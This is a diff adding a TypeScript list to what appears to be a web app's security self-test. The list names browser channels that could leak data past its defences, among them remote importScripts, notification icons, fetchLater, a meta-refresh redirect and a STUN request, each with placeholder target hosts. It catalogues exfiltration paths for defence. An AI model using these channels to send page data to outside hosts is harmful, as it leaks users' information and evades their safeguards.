@@ -1,0 +1,118 @@
+import type { OutsideChannel } from './outside-channel.ts';
+
+/** `fetchLater` only where no header forbids it: ours do. */
+const crashes = 'It can crash the tab in Chromium 156; nothing leaves then.';
+const asks = 'Where nothing stopped it, the browser would ask the person something.';
+const needsLeave = 'It works only after the person has allowed notices. The app never asks for that.';
+
+/** What the page could do, but not in front of a person. */
+export const outsidePageChannels: readonly OutsideChannel[] = [
+  {
+    key: 'thread-import-scripts',
+    words: 'load a stranger’s script',
+    code: "importScripts('$URL')",
+    context: 'thread',
+    whyOutside: 'Only threads of an older kind can. The self-test’s thread is of the newer.',
+    facts: ['dedicated worker: importScripts'],
+    walls: ['content-security-policy', 'connection-allowlist'],
+  },
+  {
+    key: 'own-update',
+    words: 'ask this app’s own server for another guard, again and again',
+    code: 'registration.update()',
+    context: 'page',
+    isOwnSite: true,
+    whyOutside: 'Its error does not say why, and no report of it comes: only the server can tell whether it was asked.',
+    facts: ['own: SW registration.update()'],
+    walls: ['connection-allowlist'],
+  },
+  {
+    key: 'notification',
+    words: 'show a notice with a stranger’s picture',
+    code: "new Notification('leak', { icon: '$URL' })",
+    context: 'page',
+    whyOutside: needsLeave,
+    facts: ['new Notification(icon: evil)'],
+    walls: ['content-security-policy', 'connection-allowlist', 'service-worker'],
+  },
+  {
+    key: 'notification-by-guard',
+    words: 'have the guard show a notice with a stranger’s picture',
+    code: "registration.showNotification('leak', { icon: '$URL' })",
+    context: 'page',
+    whyOutside: needsLeave,
+    facts: ['SW showNotification(icon: evil) from page'],
+    walls: ['content-security-policy', 'connection-allowlist', 'service-worker'],
+  },
+  {
+    key: 'passkey',
+    words: 'sign in with a passkey of a stranger’s site',
+    code: "navigator.credentials.get({ publicKey: { rpId: '$HOST' } })",
+    context: 'page',
+    whyOutside: asks,
+    facts: ['WebAuthn get() rpId=evil (related origins)'],
+    walls: ['permissions-policy', 'connection-allowlist'],
+    noEvidence:
+      'Only a site with a name is let that far, and the audit serves the app under a number: nothing arrives there even without walls.',
+  },
+  {
+    key: 'payment-show',
+    words: 'open a stranger’s till',
+    code: "new PaymentRequest([{ supportedMethods: '$HTTPS' }], total).show()",
+    context: 'page',
+    whyOutside: asks,
+    facts: ['Payment: show(cross-origin method)'],
+    walls: ['permissions-policy', 'content-security-policy', 'connection-allowlist'],
+  },
+  {
+    key: 'document-rewritten',
+    words: 'write the whole page anew, with an order to go elsewhere',
+    code: 'document.write(\'<meta http-equiv="refresh" content="0; url=$URL">\')',
+    context: 'page',
+    whyOutside: 'It ends the page.',
+    facts: ['document.open+write meta refresh'],
+    walls: ['page-guard', 'connection-allowlist'],
+    freshPage: true,
+  },
+  {
+    key: 'fetch-later',
+    words: 'leave a request behind, to be sent at once',
+    code: "fetchLater('$HTTPS', { activateAfter: 0 })",
+    context: 'page',
+    whyOutside: crashes,
+    facts: ['fetchLater(0)'],
+    walls: ['permissions-policy', 'content-security-policy', 'connection-allowlist'],
+    freshPage: true,
+  },
+  {
+    key: 'fetch-later-end',
+    words: 'leave a request behind, to be sent when the page ends',
+    code: "fetchLater('$HTTPS')",
+    context: 'page',
+    whyOutside: 'It shows only when the page ends.',
+    facts: ['fetchLater(on unload)'],
+    walls: ['permissions-policy', 'content-security-policy', 'connection-allowlist'],
+    freshPage: true,
+  },
+  {
+    key: 'own-fetch-later',
+    words: 'leave a request to this app’s own server behind',
+    code: "fetchLater('$URL', { activateAfter: 0 })",
+    context: 'page',
+    isOwnSite: true,
+    whyOutside: crashes,
+    facts: ['own: fetchLater(0)'],
+    walls: ['permissions-policy', 'content-security-policy', 'connection-allowlist'],
+    freshPage: true,
+  },
+  {
+    key: 'rtc-frame',
+    words: 'ask for the way to another device from an empty frame',
+    code: "new frame.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'stun:$HOST' }] })",
+    context: 'page',
+    whyOutside: crashes,
+    facts: ['RTC via about:blank iframe'],
+    walls: ['connection-allowlist'],
+    freshPage: true,
+  },
+];
